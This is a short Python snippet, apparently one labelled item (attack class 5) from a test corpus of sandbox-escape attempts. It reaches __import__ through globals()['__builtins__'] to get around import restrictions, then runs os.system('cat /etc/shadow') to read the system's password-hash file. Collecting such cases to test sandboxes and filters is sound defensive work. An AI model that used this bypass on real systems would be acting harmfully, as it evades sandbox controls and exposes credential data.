# attack-class: 5
# title: globals()['__builtins__'].__import__
# why: reaches __import__ through globals()

bi = globals()["__builtins__"]
imp = bi.__import__ if hasattr(bi, "__import__") else bi["__import__"]
imp("os").system("cat /etc/shadow")
